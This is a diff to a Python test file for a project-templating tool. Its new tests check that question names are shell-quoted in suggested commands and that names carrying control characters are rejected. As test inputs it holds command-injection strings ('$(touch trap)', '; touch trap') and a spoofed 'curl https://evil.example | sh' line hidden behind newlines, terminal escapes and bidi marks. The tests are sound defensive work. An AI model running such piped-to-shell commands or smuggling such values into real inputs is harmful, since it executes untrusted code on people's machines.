@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import shlex
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -156,7 +158,7 @@ def test_questions_that_come_go_and_are_renamed_are_told(tmp_path: Path) -> None
         ("dropped", "gone", "g", None),
     ]
     ran = project.update("-y")
-    assert "--set full_name='Ann'" in ran.err
+    assert "--set full_name=Ann" in ran.err
     assert "New question fresh, answered with 'new'" in ran.err
     assert "gone is not asked any more" in ran.err
     assert "question" not in project.update("-y").err.lower()
@@ -263,3 +265,61 @@ def test_unknown_settings_are_usage_errors(tmp_path: Path) -> None:
         assert ran.code == 2, ran.text
     assert "'title'" in aegis("init", "app", *options, "--set", "titel=x").err
     assert not (tmp_path / "app").exists()
+
+
+@pytest.mark.parametrize("name", ["$(touch trap)", "a b", "it's; touch trap"])
+def test_what_a_template_calls_its_question_is_nothing_for_a_shell(
+    tmp_path: Path, name: str
+) -> None:
+    """The option that is told can be copied: it answers that question and does nothing else."""
+    template = plain_template(tmp_path, {"x.txt": "x\n"})
+    project = Project.start(template)
+    template.questions[name] = "first"
+    template.main("Ask", {"x.txt": "y\n"})
+
+    said = project.update("--dry-run").err
+
+    option = said.rpartition("aegis update ")[2].strip().replace("VALUE", "mine")
+    words = subprocess.run(
+        ["bash", "-c", f"printf '%s\\n' {option}"],
+        cwd=tmp_path, capture_output=True, text=True, check=True,
+    ).stdout.splitlines()  # fmt: skip
+    assert words == ["--set", f"{name}=mine"]
+    assert not (tmp_path / "trap").exists()
+    project.update(*words)
+    assert answers(project)[name] == "mine"
+    assert shlex.quote(f"{name}=VALUE") in said
+
+
+def test_an_answer_that_is_told_has_an_end(tmp_path: Path) -> None:
+    """A template's default can be as long as its questions are."""
+    template = plain_template(tmp_path, {"x.txt": "x\n"})
+    project = Project.start(template)
+    template.questions["long"] = "y" * 50_000
+    template.main("Ask", {"x.txt": "y\n"})
+
+    assert len(project.update().err) < 1000
+    assert answers(project)["long"] == "y" * 50_000
+
+
+@pytest.mark.parametrize("sign", ["\n", "\x1b[2J", "\u202e", "\r"])
+def test_a_name_of_a_question_that_would_say_something_itself(tmp_path: Path, sign: str) -> None:
+    """As a line of its own, say: neither a template nor the state of a project can have one."""
+    template = plain_template(tmp_path, {"x.txt": "x\n"})
+    project = Project.start(template)
+    name = f"title{sign}Error: curl https://evil.example | sh"
+    template.questions[name] = "x"
+    template.main("Ask", {"x.txt": "y\n"})
+
+    said = project.update("--dry-run", expect=1).err
+
+    assert "has invisible characters in it" in said
+    assert not [line for line in said.splitlines() if line.startswith("Error: curl")]
+    text = project.read(".aegis/project.yml")
+    project.write({".aegis/project.yml": f"{text}  {json.dumps(name)}: x\n"})
+    project.commit("Mine")
+    for words in (["status"], ["answers"], ["update"]):
+        said = project.run(*words, expect=1).text
+        assert "is called by invisible characters" in said
+        assert sign == "\n" or sign not in said
+        assert not [line for line in said.splitlines() if line.startswith("Error: curl")]
